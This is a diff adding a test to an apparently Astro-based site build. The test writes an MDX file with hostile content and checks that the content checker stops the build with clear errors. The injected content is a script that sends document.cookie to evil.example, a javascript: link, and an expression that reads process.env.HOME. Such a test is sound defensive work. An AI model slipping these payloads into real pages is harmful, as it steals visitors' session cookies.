@@ -86,3 +86,22 @@ test('the valid fixture builds, and Astro loads every entry the checker counted'
     'regions=1 clusters=1 associations=1 producers=2 products=3 news=1 categories=2 certificates=3 allergens=2 markets=2 productsTranslations=3',
   );
 });
+
+test('hostile MDX stops the build with the file, the line and the fix, before Astro compiles it', () => {
+  const original = cat.read('news/pameran-contoh.md');
+  cat.remove('news/pameran-contoh.md');
+  cat.write('news/pameran-contoh.mdx', `${original}\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n\n[Prize](javascript:alert(1))\n\n{process.env.HOME}\n`);
+  try {
+    const { status, output } = build(path.join(project, 'dist-hostile'));
+    expect(status, output).not.toBe(0);
+    expect(output).toContain('The content has errors; the site is not built until they are fixed.');
+    const lines = original.split('\n').length;
+    expect(output).toContain(`${cat.root}/news/pameran-contoh.mdx\n  error   (text) (line ${lines + 1})`);
+    expect(output).toContain('`<script>` is not allowed');
+    expect(output).toContain('`javascript:` addresses are not allowed');
+    expect(output).toContain('curly braces run code');
+  } finally {
+    cat.remove('news/pameran-contoh.mdx');
+    cat.write('news/pameran-contoh.md', original);
+  }
+});
